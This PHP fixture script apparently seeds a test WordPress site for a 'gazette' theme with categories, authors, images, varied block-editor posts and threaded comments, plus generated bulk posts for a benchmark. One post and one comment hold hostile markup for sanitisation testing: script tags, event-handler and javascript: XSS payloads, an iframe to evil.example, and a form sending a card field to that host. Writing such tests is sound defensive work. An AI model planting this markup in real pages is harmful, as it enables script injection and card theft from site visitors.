<?php
// The test WordPress's site: who writes, where, and the posts (block editor markup).
require_once __DIR__ . '/fill-media.php';

function gazette_post(array $fields): int {
    $date = $fields['date'];
    unset($fields['date']);
    $id = wp_insert_post(array_merge([
        'post_status' => 'publish',
        'post_type' => 'post',
        'post_date' => $date,
        'post_date_gmt' => $date,
        'comment_status' => 'open',
    ], $fields), true);
    if (is_wp_error($id)) {
        fwrite(STDERR, $id->get_error_message() . "\n");
        exit(1);
    }
    return $id;
}

function gazette_fill_site(): array {
    $cat = fn (string $name, string $slug) => wp_insert_term($name, 'category', ['slug' => $slug])['term_id'];
    $world = $cat('World', 'world');
    $business = $cat('Business & Markets', 'business');
    $tech = $cat('Technology', 'technology');
    $user = fn (string $login, string $name) => wp_insert_user([
        'user_login' => $login, 'user_pass' => "$login-password", 'user_email' => "$login@example.org",
        'display_name' => $name, 'role' => 'author',
    ]);
    $mara = $user('mara', 'Mara Lindqvist');
    $zoe = $user('zoe', 'Zoë Ångström');
    $jonas = $user('jonas', 'Jonas Ekberg');

    $barrier = gazette_picture('tidal-barrier', 1600, 900, [20, 60, 110], 'Steel gates across a grey estuary', 'The barrier&#8217;s seven gates, closed.', 'Harbour Test Photo Desk', $mara);
    $market = gazette_picture('fish-market', 1200, 800, [110, 60, 20], 'Stalls under a glass roof', 'The old market hall.', '', $zoe);
    $night = gazette_picture('night-ferry', 900, 1200, [10, 20, 50], 'A ferry lit up at night', 'The last ferry.', 'J. Ekberg', $jonas);

    $ids = [];
    $ids['barrier'] = gazette_post([
        'date' => '2026-11-27 08:30:00', 'post_author' => $mara, 'post_category' => [$world],
        'tags_input' => ['Climate', 'Harbour City'], 'post_name' => 'tidal-barrier-closes',
        'post_title' => 'Tidal barrier closes &#8220;for real&#8221; after a decade',
        'post_excerpt' => 'The seven gates closed in earnest on Thursday night &amp; held.',
        'post_content' => '<p>At 21:40 on Thursday, with the tide still rising, the <strong>seven gates</strong> of the Aske Barrier closed <em>in earnest</em>. See <a href="https://example.org/report">the engineers&#8217; report</a> and <code>gate-7</code>.</p>'
            . '<h2 class="wp-block-heading">How it works</h2><p>Each gate swings up from the river bed.</p>'
            . '<h4 class="wp-block-heading">A smaller heading</h4>'
            . '<ul><li>Seven gates</li><li>1.1 kilometres<ul><li>nested: the north span</li></ul></li><li>Built in <em>ten</em> years</li></ul>'
            . '<ol><li>Close the gates</li><li>Pump the basin</li></ol>'
            . '<blockquote class="wp-block-quote"><p>We have waited a long time for this night.</p><cite>Ines Varga, harbour master</cite></blockquote>'
            . '<figure class="wp-block-pullquote"><blockquote><p>The river is ours again.</p><cite>A fisherman</cite></blockquote></figure>'
            . gazette_image_block($market, 'The market hall, <em>dry</em> this year.'),
    ]);
    set_post_thumbnail($ids['barrier'], $barrier);
    stick_post($ids['barrier']);

    $ids['tables'] = gazette_post([
        'date' => '2026-11-26 10:00:00', 'post_author' => $zoe, 'post_category' => [$business],
        'tags_input' => ['Markets'], 'post_name' => 'fish-prices-in-tables',
        'post_title' => 'Fish prices, in tables and code',
        'post_content' => '<p>Prices at the market this week.</p>'
            . '<figure class="wp-block-table"><table><thead><tr><th>Fish</th><th>Price</th></tr></thead><tbody><tr><td>Cod</td><td>&euro;12</td></tr><tr><td><strong>Herring</strong></td><td>&euro;4 | kg</td></tr></tbody></table><figcaption class="wp-element-caption">Prices per kilo.</figcaption></figure>'
            . '<figure class="wp-block-table"><table><tbody><tr><td>Monday</td><td>Closed</td></tr><tr><td>Tuesday</td></tr></tbody></table></figure>'
            . '<pre class="wp-block-code"><code>fn price(kg: f64) -&gt; f64 {' . "\n" . '    kg * 12.0 // &lt;cod&gt;' . "\n" . '}</code></pre>'
            . '<pre class="wp-block-preformatted">Opening   hours' . "\n" . '  Mon  closed</pre>'
            . '<p>Read <a href="' . home_url('/2026/11/tidal-barrier-closes/') . '">the barrier story</a>.</p>',
    ]);
    set_post_thumbnail($ids['tables'], $market);

    $ids['gallery'] = gazette_post([
        'date' => '2026-11-25 18:15:00', 'post_author' => $jonas, 'post_category' => [$world, $tech],
        'tags_input' => ['Harbour City', 'Photography'], 'post_name' => 'harbour-at-night-gallery',
        'post_title' => 'The harbour at night: a gallery',
        'post_content' => '<p>Our photographer spent a night on the water.</p>'
            . gazette_gallery_block([[$night, 'The last ferry leaves.'], [$barrier, 'The gates at dusk.'], [$market, '']], 'A night on the water.')
            . '<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube"><div class="wp-block-embed__wrapper"><iframe title="Harbour film" width="500" height="281" src="https://www.youtube.com/embed/abc123" allowfullscreen></iframe></div><figcaption>The film.</figcaption></figure>'
            . '<figure class="wp-block-embed is-type-rich is-provider-twitter wp-block-embed-twitter"><div class="wp-block-embed__wrapper"><blockquote class="twitter-tweet"><p>Lovely night.</p>&mdash; Harbour (@harbour) <a href="https://twitter.com/harbour/status/1">November 25, 2026</a></blockquote><script async src="https://platform.twitter.com/widgets.js"></script></div></figure>',
    ]);
    set_post_thumbnail($ids['gallery'], $night);

    $ids['hostile'] = gazette_post([
        'date' => '2026-11-24 12:00:00', 'post_author' => $mara, 'post_category' => [$tech],
        'tags_input' => ['Security'], 'post_name' => 'hostile-markup-test',
        'post_title' => '<script>alert(1)</script>Hostile &lt;b&gt;markup&lt;/b&gt; test',
        'post_content' => '<p onclick="alert(2)">Text with <a href="javascript:alert(3)">a bad link</a> and <a href="https://example.org/" onmouseover="alert(4)">a good one</a>.</p>'
            . '<script>document.title = "pwned"</script><style>body { display: none }</style>'
            . '<iframe src="https://evil.example/"></iframe>'
            . '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>'
            . '<p><img src="x" onerror="alert(5)" alt="broken"> <svg onload="alert(6)"></svg>Still here &lt;script&gt; as text.</p>',
    ]);

    gazette_post([
        'date' => '2026-11-23 09:00:00', 'post_author' => $zoe, 'post_category' => [$business],
        'post_title' => 'Members only: the quarterly figures', 'post_name' => 'members-only-figures',
        'post_password' => 'secret', 'post_content' => '<p>Protected figures.</p>',
    ]);
    gazette_post(['date' => '2026-11-22 09:00:00', 'post_author' => $zoe, 'post_category' => [$business],
        'post_status' => 'draft', 'post_title' => 'An unfinished draft', 'post_content' => '<p>Draft.</p>']);
    gazette_post(['date' => '2026-11-22 09:30:00', 'post_author' => $zoe, 'post_category' => [$business],
        'post_status' => 'private', 'post_title' => 'A private note', 'post_content' => '<p>Private.</p>']);

    $ids['cyrillic'] = gazette_post([
        'date' => '2026-11-21 07:45:00', 'post_author' => $jonas, 'post_category' => [$world],
        'tags_input' => ['Россия'], 'post_title' => 'Привет из гавани',
        'post_content' => '<p>Репортаж из порта.</p><p>A second paragraph in English.</p>',
    ]);
    $ids['uncategorized'] = gazette_post([
        'date' => '2026-11-20 06:00:00', 'post_author' => 1,
        'post_title' => 'Notes from the editor', 'post_name' => 'notes-from-the-editor',
        'post_content' => '<p>No category was chosen for this one.</p>', 'comment_status' => 'closed',
    ]);
    $ids['members_comments'] = gazette_post([
        'date' => '2026-11-19 06:00:00', 'post_author' => $mara, 'post_category' => [$world],
        'post_title' => 'Comments for members only', 'post_name' => 'comments-for-members',
        'post_content' => '<p>Only logged-in readers may comment here.</p>',
    ]);
    update_post_meta($ids['members_comments'], 'gazette_login_required', 1);

    gazette_comments($ids['barrier'], [
        ['Ines Varga', 'ines@example.org', 'Proud of the <em>whole</em> team.', [
            ['Tomas Berg', 'tomas@example.org', "Well done!\n\nTwo paragraphs here.", [
                ['Ines Varga', 'ines@example.org', 'Thank you, Tomas.', []],
            ]],
        ]],
        ['Lea Holm', 'lea@example.org', 'What about the <a href="https://example.org/ferries">ferries</a>? <script>alert(7)</script>', []],
    ]);
    $many = [];
    for ($i = 1; $i <= 25; $i++) {
        $many[] = ["Reader $i", "reader$i@example.org", "Comment number $i.", []];
    }
    gazette_comments($ids['tables'], $many);
    wp_insert_comment(['comment_post_ID' => $ids['barrier'], 'comment_author' => 'Held Back',
        'comment_author_email' => 'held@example.org', 'comment_content' => 'Awaiting moderation.', 'comment_approved' => 0]);
    wp_insert_comment(['comment_post_ID' => $ids['barrier'], 'comment_author' => 'Spammer',
        'comment_author_email' => 'spam@example.org', 'comment_content' => 'Buy now.', 'comment_approved' => 'spam']);
    return $ids;
}

/** The bench's bulk: plain posts spread over the categories, tags and authors. */
function gazette_fill_generated(int $count, array $ids): void {
    wp_defer_term_counting(true);
    wp_defer_comment_counting(true);
    $categories = get_terms(['taxonomy' => 'category', 'hide_empty' => false, 'fields' => 'ids']);
    $authors = get_users(['fields' => 'ID']);
    $words = ['harbour', 'council', 'ferry', 'market', 'barrier', 'storm', 'budget', 'school', 'museum', 'bridge', 'river', 'election'];
    for ($i = 1; $i <= $count; $i++) {
        $w = fn (int $k) => $words[($i * 7 + $k * 5) % count($words)];
        $paragraphs = '';
        for ($p = 0; $p < 6; $p++) {
            $paragraphs .= "<p>Story $i, paragraph $p: the {$w($p)} and the {$w($p + 1)} met the {$w($p + 2)} as the city watched, and the <em>{$w($p + 3)}</em> agreed.</p>";
        }
        gazette_post([
            'date' => gmdate('Y-m-d H:i:s', strtotime('2026-11-01 00:00:00') - 3600 * $i),
            'post_author' => $authors[$i % count($authors)],
            'post_category' => [$categories[$i % count($categories)]],
            'tags_input' => [ucfirst($w(0)), ucfirst($w(1))],
            'post_title' => "Generated story $i about the {$w(0)}",
            'post_name' => "generated-story-$i",
            'post_content' => $paragraphs . '<h2>More</h2><ul><li>One</li><li>Two</li></ul>',
        ]);
    }
    wp_defer_term_counting(false);
    wp_defer_comment_counting(false);
}
